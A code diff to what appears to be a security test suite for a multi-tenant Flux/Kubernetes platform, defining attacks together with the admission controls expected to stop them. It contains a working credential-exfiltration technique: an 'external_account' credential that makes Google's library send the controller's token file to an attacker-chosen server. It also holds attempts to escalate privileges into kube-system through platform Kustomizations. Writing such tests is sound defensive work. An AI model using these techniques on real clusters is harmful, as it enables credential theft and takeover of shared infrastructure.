@@ -1,26 +1,24 @@
 import type { Attack, Place } from "../attack.js";
 import { kustomization, own, reference, V, within } from "../objects.js";
 import { change, create } from "../request.js";
-import { cannot } from "./says.js";
+import { cannot } from "./messages.js";
 
 const category = "escalation";
 const notification = "notification.toolkit.fluxcd.io/v1beta3";
 
-const bucketSecret =
-  /the Secret of a Bucket at gcp or azure can have the platform's controller give away its own identity/;
-const providerSecret = /the Secret of a Provider of this type can have the platform's controller give away/;
-const providerIdentity =
-  /without an account of its own a Provider would use the credentials of the platform's controller/;
-const reports = /this controller of Flux's reports on objects, and neither makes, changes nor removes them/;
+const bucketSecret = /a Secret of a Bucket at gcp or azure can disclose the identity of the platform's controller/;
+const providerSecret = /a Secret of a Provider of this type can disclose the identity of the platform's controller/;
+const providerIdentity = /a Provider without its own account would use the credentials of the platform's controller/;
+const reports = /this Flux controller may only change status, finalizers and annotations/;
 
 /** What Google's library takes for credentials: it reads a file, and sends what is in it to an address. */
-function externalAccount({ loot, thief }: Place): string {
+function externalAccount({ secretFile, exfiltrationServer }: Place): string {
   return JSON.stringify({
     type: "external_account",
     audience: "whoever",
     subject_token_type: "urn:ietf:params:oauth:token-type:jwt",
-    token_url: thief,
-    credential_source: { file: loot },
+    token_url: exfiltrationServer,
+    credential_source: { file: secretFile },
   });
 }
 
@@ -29,7 +27,7 @@ function asCredentials(
   id: string,
   title: string,
   control: "fleet-flux-source" | "fleet-notifications",
-  says: RegExp,
+  message: RegExp,
   [apiVersion, kind, spec]: readonly [string, string, Readonly<Record<string, unknown>>],
 ): Attack {
   return {
@@ -37,7 +35,7 @@ function asCredentials(
     title,
     category,
     by: "reconciler",
-    stoppedBy: [{ control, says }],
+    stoppedBy: [{ control, message }],
     attempt: (place) => ({ kind: "request", request: create(own(place, apiVersion, kind, { spec })) }),
   };
 }
@@ -51,7 +49,7 @@ export const controllerAttacks: readonly Attack[] = [
     title: "has source-controller send a file of its own, such as its token, to an address of the tenant's",
     category,
     by: "push",
-    stoppedBy: [{ control: "fleet-flux-source", says: bucketSecret }],
+    stoppedBy: [{ control: "fleet-flux-source", message: bucketSecret }],
     attempt: (place) => ({
       kind: "sync",
       object: own(
@@ -72,7 +70,7 @@ export const controllerAttacks: readonly Attack[] = [
       beside: [
         own(place, "v1", "Secret", { stringData: { serviceaccount: externalAccount(place) } }, "token-as-credentials"),
       ],
-      evidence: "loot",
+      evidence: "secretFile",
     }),
   },
   asCredentials(
@@ -121,8 +119,8 @@ export const controllerAttacks: readonly Attack[] = [
     category,
     by: "controller",
     stoppedBy: [
-      { control: "controller-rights", says: cannot("create", "kustomizations") },
-      { control: "fleet-controllers", says: reports },
+      { control: "controller-rights", message: cannot("create", "kustomizations") },
+      { control: "fleet-controllers", message: reports },
     ],
     attempt: (place) => {
       const asPlatform = { serviceAccountName: "platform-reconciler", targetNamespace: "kube-system" };
@@ -135,7 +133,7 @@ export const controllerAttacks: readonly Attack[] = [
     title: "changes what the platform's own Kustomization applies",
     category,
     by: "controller",
-    stoppedBy: [{ control: "fleet-controllers", says: reports }],
+    stoppedBy: [{ control: "fleet-controllers", message: reports }],
     attempt: () => ({
       kind: "request",
       request: change(reference(V.kustomize, "Kustomization", "platform", "flux-system"), {
